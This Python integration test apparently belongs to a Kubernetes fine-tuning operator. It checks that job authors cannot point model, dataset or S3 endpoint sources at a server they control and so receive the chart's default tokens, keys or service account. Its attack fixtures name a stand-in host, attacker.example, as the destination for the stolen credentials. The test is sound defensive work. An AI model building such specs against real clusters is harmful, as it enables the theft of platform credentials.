"""A job author without rights on Secrets names own servers, and the chart has default credentials.

The policies of the chart are installed, and the operator has the same defaults.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.integration import policy
from tests.support.api_server import operatorprocess
from tests.support.api_server.controlplane import ControlPlane
from tests.support.api_server.namespace import Namespace
from tests.support.api_server.operatorprocess import CONFIG

pytestmark = pytest.mark.finding(1, "a credential of the chart is sent to a server of the author")

AUTHOR = "job-author"
TOKEN = {"tokenSecretRef": {"name": "platform-token"}}
KEYS = {"s3": {"secretRef": {"name": "platform-keys"}}}
DEFAULTS: dict[str, Any] = {
    "model": {**TOKEN, **KEYS, "caConfigMapRef": {"name": "platform-ca"}},
    "dataset": TOKEN,
    "access": {"serviceAccountName": "platform-account"},
}
WEB = {"source": "https://attacker.example/x/SHA256SUMS", "sha256": "0" * 64}
ENDPOINT = {"s3": {"endpoint": "https://attacker.example:9000"}}
ROWS = {"source": "hf://acme/rows", "format": "text"}
ATTACKS: dict[str, dict[str, Any]] = {
    "model": {"model": WEB},
    "dataset": {"dataset": {**ROWS, **WEB}},
    "datasets": {
        "datasets": [{"name": "a", **ROWS, **WEB}, {"name": "b", **ROWS, **WEB, "split": "test"}]
    },
    "endpoint": {"model": {"source": "s3://bucket/x", **ENDPOINT}},
    "identity": {"dataset": {**ROWS, "source": "s3://bucket/x", **ENDPOINT}},
}


@pytest.fixture(scope="module", autouse=True)
def policies(control_plane: ControlPlane) -> Iterator[None]:
    with policy.installed(control_plane, {"defaults": DEFAULTS}):
        yield


def prepare_pod(place: Namespace, name: str) -> dict[str, Any]:
    """Return the pod template of the prepare Job of a FineTuneJob."""
    place.wait_until_preparing(name)
    (found,) = (
        job for job in place.items("jobs") if job["metadata"]["labels"]["finetune.dev/job"] == name
    )
    template: dict[str, Any] = found["spec"]["template"]
    return template


def submit(place: Namespace, name: str, spec: dict[str, Any]) -> None:
    """Create a job as its author; the policies allow it."""
    path = policy.JOBS.format(place.name)
    assert policy.attempt(place.plane, "POST", path, policy.job(name, **spec), AUTHOR) is None


def test_author_gets_no_credential_of_the_chart(
    control_plane: ControlPlane, place: Namespace, tmp_path: Path
) -> None:
    policy.grant(control_plane, place.name, AUTHOR)
    own = {"model": {"source": "hf://acme/gated"}, "dataset": ROWS}
    for name, spec in (ATTACKS | {"hub": own}).items():
        submit(place, name, spec)
    with operatorprocess.operator(control_plane, tmp_path, {**CONFIG, "defaults": DEFAULTS}):
        pods = {name: prepare_pod(place, name) for name in (*ATTACKS, "hub")}
    sent = {
        name: sorted(
            variable["name"]
            for container in pod["spec"]["containers"]
            for variable in container["env"]
            if "secretKeyRef" in variable.get("valueFrom", {})
        )
        for name, pod in pods.items()
    }
    # The other source of an attack is on the hub.
    assert sent == {
        "model": ["DATASET_HF_TOKEN"],
        "dataset": ["MODEL_HF_TOKEN"],
        "datasets": ["MODEL_HF_TOKEN"],
        "endpoint": ["DATASET_HF_TOKEN"],
        "identity": ["MODEL_HF_TOKEN"],
        "hub": ["DATASET_HF_TOKEN", "MODEL_HF_TOKEN"],
    }
    accounts = {name for name, pod in pods.items() if "serviceAccountName" in pod["spec"]}
    assert accounts.isdisjoint({"endpoint", "identity"})
    trusting = {name for name, pod in pods.items() if "platform-ca" in json.dumps(pod)}
    assert trusting == {"dataset", "datasets", "identity", "hub"}
